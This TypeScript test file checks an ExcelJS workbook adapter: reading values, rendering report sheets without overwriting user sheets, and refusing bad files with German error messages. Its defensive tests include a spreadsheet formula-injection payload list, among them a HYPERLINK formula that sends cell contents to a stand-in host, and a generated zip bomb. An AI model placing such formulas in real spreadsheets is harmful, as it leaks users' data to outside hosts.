/**
 * The ExcelJS adapter on real .xlsx bytes: what it reads, what it writes, and what it must never touch.
 */
import ExcelJS from "exceljs";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ReportPlan, SheetPlan } from "../../../src/report/plan";
import { openXlsxFile, WorkbookOpenError, XlsxWorkbook } from "../../../src/workbook/xlsx";

async function bufferOf(build: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  build(wb);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

async function reopen(buffer: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  return wb;
}

function plan(overrides: Partial<SheetPlan> = {}): ReportPlan {
  return {
    sheets: [
      {
        key: "ziel-ist-vergleich",
        name: "Ziel-Ist-Vergleich",
        cells: [["Titel"], [], ["Kennzahl", "Ist"], ["Integrationsquote", 0.197]],
        styles: [{ range: { row: 0, col: 0, rows: 1, cols: 1 }, style: { bold: true, fontSize: 14 } }, { range: { row: 3, col: 1, rows: 1, cols: 1 }, style: { numberFormat: "0.0%", fill: "C6EFCE" } }],
        columnWidths: [40, 12],
        freeze: { rows: 3, cols: 1 },
        merges: [{ row: 0, col: 0, rows: 1, cols: 2 }],
        conditionalFormats: [{ kind: "textEquals", range: { row: 3, col: 0, rows: 1, cols: 1 }, text: "verfehlt", style: { fill: "FFC7CE" } }],
        charts: [],
        print: { orientation: "landscape", fitToOnePageWide: true, repeatRows: 3 },
        ...overrides,
      },
    ],
  };
}

const userSheet = (wb: ExcelJS.Workbook) => {
  const ws = wb.addWorksheet("Grunddaten");
  ws.getCell("A1").value = "Titel";
  ws.getCell("C5").value = "Kennzahl";
  ws.getCell("D5").value = new Date(Date.UTC(2022, 0, 1));
  ws.getCell("D5").numFmt = "mmm yy";
  ws.getCell("C6").value = "ELB";
  ws.getCell("D6").value = 7490;
  ws.getCell("D7").value = { formula: "D6*2", result: 14980 };
  ws.getCell("D8").value = { error: "#N/A" } as ExcelJS.CellErrorValue;
  ws.getCell("C7").value = { richText: [{ text: "Inte" }, { text: "grationen" }] };
};

describe("reading", () => {
  it("returns the used range from its first filled cell, dates as serials, cached formula results and error codes", async () => {
    const workbook = await XlsxWorkbook.fromBuffer(await bufferOf(userSheet));
    const [sheet] = (await workbook.readSheets({ numberFormats: true })).sheets;
    expect(sheet.origin).toEqual({ row: 0, col: 0 });
    const at = (a1row: number, col: number) => sheet.values[a1row - 1][col];
    expect(at(5, 3)).toBe(44562); // 2022-01-01 as Excel serial
    expect(sheet.numberFormats?.[4][3]).toBe("mmm yy");
    expect(at(6, 3)).toBe(7490);
    expect(at(7, 3)).toBe(14980);
    expect(at(8, 3)).toBe("#N/A");
    expect(at(7, 2)).toBe("Integrationen");
    expect(at(2, 0)).toBeNull();
  });

  it("starts the matrix at the first filled cell when a sheet has no title in A1", async () => {
    const workbook = await XlsxWorkbook.fromBuffer(await bufferOf((wb) => {
      const ws = wb.addWorksheet("Daten");
      ws.getCell("C5").value = "Kennzahl";
      ws.getCell("E9").value = 3;
    }));
    const [sheet] = (await workbook.readSheets({})).sheets;
    expect(sheet.origin).toEqual({ row: 4, col: 2 });
    expect(sheet.values).toHaveLength(5);
    expect(sheet.values[4][2]).toBe(3);
  });

  it("reports Excel tables with their position", async () => {
    const workbook = await XlsxWorkbook.fromBuffer(await bufferOf((wb) => {
      wb.addWorksheet("Ziele").addTable({ name: "Ziele2022", ref: "A3", headerRow: true, columns: [{ name: "Kennzahl" }, { name: "Zielwert" }], rows: [["IQ", 22.5], ["LZB", 4500]] });
    }));
    const [sheet] = (await workbook.readSheets({})).sheets;
    expect(sheet.tables).toEqual([{ name: "Ziele2022", range: { row: 2, col: 0, rows: 3, cols: 2 } }]);
  });
});

describe("rendering", () => {
  it("writes values, formats, widths, frozen rows, merges and rules", async () => {
    const workbook = await XlsxWorkbook.fromBuffer(await bufferOf(userSheet));
    await workbook.render(plan());
    const ws = (await reopen(await workbook.toBuffer())).getWorksheet("Ziel-Ist-Vergleich") as ExcelJS.Worksheet;
    expect(ws.getCell("A4").value).toBe("Integrationsquote");
    expect(ws.getCell("B4").value).toBeCloseTo(0.197, 10);
    expect(ws.getCell("B4").numFmt).toBe("0.0%");
    expect(ws.getCell("A1").font?.bold).toBe(true);
    expect(ws.getColumn(1).width).toBe(40);
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 3, xSplit: 1 });
    expect(ws.getCell("B1").isMerged).toBe(true);
    expect(ws.pageSetup.orientation).toBe("landscape");
  });

  it("refreshes idempotently: ten renders leave one report sheet and the user's sheet unchanged", async () => {
    let buffer: Uint8Array = await bufferOf(userSheet);
    const before = JSON.stringify((await reopen(buffer)).getWorksheet("Grunddaten")?.getSheetValues());
    for (let i = 0; i < 10; i++) {
      const workbook = await XlsxWorkbook.fromBuffer(buffer);
      await workbook.render(plan());
      buffer = await workbook.toBuffer();
    }
    const wb = await reopen(buffer);
    const visible = wb.worksheets.filter((w) => w.state === "visible").map((w) => w.name);
    expect(visible).toEqual(["Grunddaten", "Ziel-Ist-Vergleich"]);
    expect(wb.worksheets).toHaveLength(2); // no state sheet: the state is in the package's custom XML part
    expect(JSON.stringify(wb.getWorksheet("Grunddaten")?.getSheetValues())).toBe(before);
  });

  it("never overwrites a user sheet that has the report's name: the report goes beside it and the user is told", async () => {
    const workbook = await XlsxWorkbook.fromBuffer(await bufferOf((wb) => {
      wb.addWorksheet("Ziel-Ist-Vergleich").getCell("A1").value = "meine eigene Auswertung";
    }));
    const result = await workbook.render(plan());
    expect(result.sheets[0].name).toBe("Ziel-Ist-Vergleich (2)");
    expect(result.notices[0]).toMatch(/gehört nicht zum Steuerungscockpit/);
    const wb = await reopen(await workbook.toBuffer());
    expect(wb.getWorksheet("Ziel-Ist-Vergleich")?.getCell("A1").value).toBe("meine eigene Auswertung");
    // A second refresh replaces "(2)" and still leaves the user's sheet alone.
    const again = await XlsxWorkbook.fromBuffer(await workbook.toBuffer());
    expect((await again.render(plan())).sheets[0].name).toBe("Ziel-Ist-Vergleich (2)");
  });

  it("writes formula-like text as text, never as a formula", async () => {
    const payloads = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-2", "@SUM(A1)", "\tx", "\rx"];
    const workbook = await XlsxWorkbook.fromBuffer(await bufferOf(userSheet));
    await workbook.render(plan({ cells: payloads.map((p) => [p]) }));
    const ws = (await reopen(await workbook.toBuffer())).getWorksheet("Ziel-Ist-Vergleich") as ExcelJS.Worksheet;
    payloads.forEach((payload, i) => {
      const cell = ws.getCell(i + 1, 1);
      // XML turns a bare CR into LF on reading; what matters is that the text stays text.
      expect(String(cell.value)).toBe(payload.replace(/\r/g, "\n"));
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe(ExcelJS.ValueType.String);
    });
  });

  it("refuses NaN and Infinity in a plan instead of writing garbage", async () => {
    const workbook = await XlsxWorkbook.fromBuffer(await bufferOf(userSheet));
    await expect(workbook.render(plan({ cells: [[Number.NaN]] }))).rejects.toThrow(/keinen gültigen Zahlenwert/);
  });

  it("does not list its own report sheets as sources on the next read", async () => {
    const workbook = await XlsxWorkbook.fromBuffer(await bufferOf(userSheet));
    await workbook.render(plan());
    const next = await XlsxWorkbook.fromBuffer(await workbook.toBuffer());
    const read = await next.readSheets({});
    expect(read.sheets.map((s) => s.name)).toEqual(["Grunddaten"]);
    expect(read.state.ownedSheets).toEqual({ "ziel-ist-vergleich": "Ziel-Ist-Vergleich" });
  });
});

describe("opening errors are German sentences, not stack traces", () => {
  const dir = mkdtempSync(join(tmpdir(), "sc-open-"));

  it("a missing file", async () => {
    await expect(openXlsxFile(join(dir, "fehlt.xlsx"))).rejects.toThrow(new WorkbookOpenError("Die Datei „fehlt.xlsx“ wurde nicht gefunden."));
  });

  it("a text file named .xlsx", async () => {
    const path = join(dir, "text.xlsx");
    writeFileSync(path, "Hallo");
    await expect(openXlsxFile(path)).rejects.toThrow(/keine lesbare Excel-Arbeitsmappe/);
  });

  it("a password-protected (OLE) file", async () => {
    const path = join(dir, "geschuetzt.xlsx");
    writeFileSync(path, Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]));
    await expect(openXlsxFile(path)).rejects.toThrow(/kennwortgeschützt/);
  });

  it("a package that unpacks beyond the limit (zip bomb) is refused before parsing", async () => {
    const JSZip = (await import("jszip")).default;
    const zip = await JSZip.loadAsync(await bufferOf(userSheet));
    zip.file("xl/media/fuellung.bin", "0".repeat(2_000_000)); // 2 MB of zeros compress to a few KB
    const bomb = await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
    expect(bomb.length).toBeLessThan(100_000);
    await expect(XlsxWorkbook.fromBuffer(bomb, "bombe.xlsx", { bytes: 1_000_000, entries: 1000 })).rejects.toThrow(/„bombe\.xlsx“ ist entpackt zu groß/);
  });

  it("a truncated .xlsx", async () => {
    const full = await bufferOf(userSheet);
    await expect(XlsxWorkbook.fromBuffer(full.subarray(0, Math.floor(full.length / 2)), "kaputt.xlsx")).rejects.toThrow(/kaputt\.xlsx/);
  });
});
